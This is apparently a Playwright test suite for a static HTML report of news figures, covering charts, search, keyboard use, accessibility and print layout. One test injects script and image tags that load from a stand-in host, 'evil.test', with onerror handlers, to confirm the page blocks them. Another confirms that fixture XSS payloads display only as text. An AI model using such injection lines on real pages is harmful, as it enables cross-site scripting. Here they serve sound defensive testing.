"""The report as people use it: it opens alone, is searched, sorted, opened by keyboard, and runs nothing of others."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from flows.report.page import write_report
from tests.flows.report.newsstand import ATTACKS, N_CATCHES
from warehouse.connect import open_writer
from warehouse.migrate import prepare

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from playwright.sync_api import Page

    from tests.browser.conftest import Opened

N_FIGURES = N_CATCHES + 10
FIRST = "table.figures tbody tr:first-child"


def column(page: Page, n: int) -> list[str]:
    return page.locator(f"table.figures tbody tr:not(.detail) td:nth-child({n})").all_inner_texts()


def count(page: Page) -> str:
    return page.locator("#count").inner_text()


def counted(page: Page, words: str) -> None:
    """Wait until the page counts so: Playwright's own wait for functions needs `eval`, which the page refuses."""
    from playwright.sync_api import expect  # noqa: PLC0415 - not needed where there is no browser

    expect(page.locator("#count")).to_have_text(words)


def drawn(page: Page, place: str, mark: str, n: int) -> None:
    """Wait until the chart in `place` has `n` marks of that name."""
    from playwright.sync_api import expect  # noqa: PLC0415 - not needed where there is no browser

    expect(page.locator(f"{place} svg .{mark}_marks path")).to_have_count(n)


def search(page: Page, words: str, expected: str) -> None:
    page.get_by_label("Search").fill(words)
    counted(page, expected)


def test_it_opens_from_the_disk_alone_and_draws_its_charts(opened: Callable[..., Opened]) -> None:
    shown = opened()
    page = shown.page
    assert (shown.asked, shown.complaints) == ([], [])
    assert count(page) == f"{N_FIGURES} figures"
    # The topic that most voices speak of is the herring: seven speakers, one line each, a dot a figure.
    drawn(page, "#who", "dots", N_CATCHES)
    assert page.locator("#who svg .names_marks text").all_text_contents() == [
        f"Harbour master {n}" for n in (3, 2, 1, 0, 6, 5, 4)
    ]
    drawn(page, "#when", "dots", N_CATCHES)
    drawn(page, "#when", "lines", 1)
    drawn(page, "#disagreements", "dots", 4)
    drawn(page, "#refused", "dots", 2)
    drawn(page, "#rang", "cells", 4)
    assert page.locator("svg[role=img][aria-label]").count() == 6
    assert page.locator("svg [aria-label], svg [tabindex], .vega-embed[role]").count() == 0


def test_a_topic_and_a_subject_choose_what_is_drawn(opened: Callable[..., Opened]) -> None:
    page = opened().page
    page.locator("#topic-choice").get_by_label("Topic").select_option(label="defence, % (3)")
    drawn(page, "#who", "dots", 3)
    page.locator("#topic-choice").get_by_role("button").click()
    counted(page, "3 figures, chosen above")
    assert column(page, 1) == ["2.1%", "2.6%", "4%"]


def test_of_topics_chosen_in_haste_the_last_is_drawn(opened: Callable[..., Opened]) -> None:
    page = opened().page
    page.evaluate(
        "for (const n of [0, 1, 0, 1]) { const field = document.querySelector('#topic-choice [name=topic]');"
        " field.selectedIndex = n; field.dispatchEvent(new Event('change')); }"
    )
    drawn(page, "#who", "dots", 3)
    assert page.locator("#who svg").count() == 1
    page.wait_for_timeout(500)
    drawn(page, "#who", "dots", 3)


def test_a_mark_tells_of_its_figure_and_opens_it(opened: Callable[..., Opened]) -> None:
    page = opened().page
    page.locator("#topic-choice").get_by_label("Topic").select_option(label="defence, % (3)")
    drawn(page, "#who", "rows", 3)
    page.locator("#who .rows_marks path").nth(1).hover()
    tip = page.locator("#vg-tooltip-element.visible")
    assert tip.inner_text().split("\n")[0] == "2.6%, target"
    page.locator("#who .rows_marks path").nth(1).click()
    counted(page, "One figure, chosen above")
    assert column(page, 1) == ["2.6%"]


def test_charts_follow_light_and_dark(opened: Callable[..., Opened]) -> None:
    page = opened(scheme="light").page
    inks = {}
    for scheme in ("light", "dark"):
        page.emulate_media(color_scheme=scheme)
        inks[scheme] = page.evaluate(
            "['#when .dots_marks path', '#when .ends_marks text', '#when .role-axis-label text']"
            ".map(one => getComputedStyle(document.querySelector(one)).fill)"
        )
    assert inks == {
        "light": ["rgb(9, 105, 218)", "rgb(27, 31, 36)", "rgb(27, 31, 36)"],
        "dark": ["rgb(88, 166, 255)", "rgb(230, 237, 243)", "rgb(230, 237, 243)"],
    }


def test_words_filters_and_order_find_figures(opened: Callable[..., Opened]) -> None:
    page = opened().page
    search(page, "ruritania gdp", f"2 of {N_FIGURES} figures")
    assert column(page, 6) == ["Vale Post", "Ottoline Vance"]
    search(page, "nothing-of-this-kind", f"0 of {N_FIGURES} figures")
    page.get_by_role("button", name="Show all").click()
    page.locator("#choice [name=status]").select_option("target")
    assert (count(page), column(page, 1)) == (f"1 of {N_FIGURES} figures", ["2.6%"])
    page.get_by_role("button", name="Show all").click()
    page.locator("#choice [name=outlet]").select_option("Norrby Notes")
    page.get_by_role("button", name="Figure", exact=True).click()
    assert column(page, 1)[:3] == ["100", "101", "102"]
    page.get_by_role("button", name="Figure", exact=True).click()
    assert column(page, 1)[:3] == ["159", "158", "157"]
    assert page.locator("th[aria-sort]").get_attribute("aria-sort") == "descending"
    page.get_by_role("button", name="Last").first.click()
    assert column(page, 1)[-1] == "100"
    assert len(column(page, 1)) == N_CATCHES - 50


def test_a_bar_and_a_disagreement_lead_to_their_figures(opened: Callable[..., Opened]) -> None:
    page = opened().page
    page.locator("#bars").get_by_role("button", name="Ruritania").click()
    counted(page, f"5 of {N_FIGURES} figures")
    page.get_by_role("button", name="Show the figures of people killed: Ruritania").click()
    counted(page, "2 figures, chosen above")
    assert column(page, 1) == ["900", "at least 1,200"]


def test_a_row_opens_and_closes_by_keyboard_with_its_figure_marked(opened: Callable[..., Opened]) -> None:
    page = opened().page
    search(page, "barracks", f"1 of {N_FIGURES} figures")
    page.locator(f"{FIRST} .opener").focus()
    page.keyboard.press("Enter")
    assert page.locator(".detail mark").all_inner_texts() == ["$30 million"]
    assert page.locator(".detail blockquote").inner_text() == "A new barracks cost $30 million."
    assert "desk/budget.txt, line 6" in page.locator(".detail").inner_text()
    assert page.locator(f"{FIRST} .opener").get_attribute("aria-expanded") == "true"
    page.keyboard.press("Enter")
    assert page.locator(".detail").count() == 0


def test_everything_is_reached_by_the_tab_key(opened: Callable[..., Opened]) -> None:
    page = opened().page
    search(page, "barracks", f"1 of {N_FIGURES} figures")
    page.locator("h1").click()
    page.keyboard.press("Shift+Tab")
    assert page.evaluate("document.activeElement.textContent") == "Skip to the table of figures"
    reached = set()
    for _ in range(80):
        page.keyboard.press("Tab")
        reached.add(page.evaluate("document.activeElement.name || document.activeElement.textContent.trim()"))
    assert {"topic", "subject", "query", "status", "said_by", "$30 million", "Show the figures", "Of what"} <= reached


def test_on_a_phone_nothing_runs_over_the_edge(opened: Callable[..., Opened]) -> None:
    shown = opened(width=390)
    assert shown.complaints == []
    assert shown.page.evaluate("document.documentElement.scrollWidth") <= 390
    assert shown.page.locator("#who svg").bounding_box()["width"] <= 390
    shown.page.locator("#disagreements .rows_marks path").first.hover()
    box = shown.page.locator("#vg-tooltip-element.visible").bounding_box()
    assert 0 <= box["x"] < box["x"] + box["width"] <= 390


def test_on_paper_the_controls_are_gone_and_more_rows_are_there(opened: Callable[..., Opened]) -> None:
    page = opened().page
    page.emulate_media(media="print")
    page.evaluate("dispatchEvent(new Event('beforeprint'))")
    assert len(column(page, 1)) == N_FIGURES
    assert page.get_by_label("Search").is_hidden()


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [1280, 390], ids=["desktop", "phone"])
def test_axe_finds_nothing_serious(opened: Callable[..., Opened], scheme: str, width: int) -> None:
    from axe_playwright_python.sync_playwright import Axe  # noqa: PLC0415 - not needed where there is no browser

    page = opened(width=width, scheme=scheme).page
    page.evaluate("document.querySelectorAll('details').forEach(one => { one.open = true })")
    page.locator(f"{FIRST} .opener").click()
    found = Axe().run(page).response["violations"]
    grave = [(one["id"], one["nodes"][0]["html"]) for one in found if one["impact"] in ("serious", "critical")]
    assert grave == []


def test_nothing_that_an_article_says_is_run(opened: Callable[..., Opened]) -> None:
    shown = opened()
    page = shown.page
    search(page, "it rose", f"2 of {N_FIGURES} figures")
    for opener in page.locator(".opener").all():
        opener.click()
    page.evaluate("document.querySelectorAll('details').forEach(one => { one.open = true })")
    for chart in page.locator("svg").all():
        chart.hover()
    attacked = page.locator("#topic-choice option").filter(has_text=ATTACKS["image"])
    page.locator("#topic-choice").get_by_label("Topic").select_option(attacked.get_attribute("value"))
    drawn(page, "#who", "rows", 2)
    page.locator("#who .rows_marks path").first.hover()
    assert page.locator("#vg-tooltip-element.visible").inner_text().startswith(f"5% {ATTACKS['script']}")
    assert page.evaluate("window.hacked") is None
    assert page.locator("img, b[onmouseover], script[src]").count() == 0
    assert page.locator("style").filter(has_text="display: none }").count() == 0
    assert (shown.asked, shown.complaints) == ([], [])
    # All of it is there to be read, as text; the mark is right behind a character of two units.
    assert page.locator(".detail mark").all_inner_texts() == [f"5% {ATTACKS['script']}", f"7% {ATTACKS['image']}"]
    quote = page.locator(".detail blockquote").first.text_content()
    assert f"said {ATTACKS['attribute']} {ATTACKS['separator']}" in quote
    assert ATTACKS["image"] in page.locator("#quarantine").text_content()
    assert page.locator("#bars").get_by_text(ATTACKS["style"]).count() == 1


def test_a_script_that_slipped_in_would_be_refused(opened: Callable[..., Opened]) -> None:
    shown = opened()
    shown.page.evaluate(
        "for (const made of [{ textContent: 'window.hacked = 1' }, { src: 'https://evil.test/x.js' }])"
        " document.body.append(Object.assign(document.createElement('script'), made))"
    )
    shown.page.evaluate(
        "document.body.insertAdjacentHTML('beforeend', '<img src=\"//evil.test/x\" onerror=\"hacked=1\">')"
    )
    assert shown.page.evaluate("window.hacked") is None
    assert shown.asked == []
    assert len(shown.complaints) >= 3


def test_an_empty_database_has_a_report(
    browser: object, opened: Callable[..., Opened], report: Path, tmp_path: Path
) -> None:
    with open_writer(tmp_path / "w.duckdb") as connection:
        prepare(connection)
    shown = opened(write_report(tmp_path / "w.duckdb", tmp_path, report.parent))
    assert (count(shown.page), shown.complaints) == ("0 figures", [])
    assert shown.page.locator("#trust .headline").inner_text() == "Nothing was read yet."
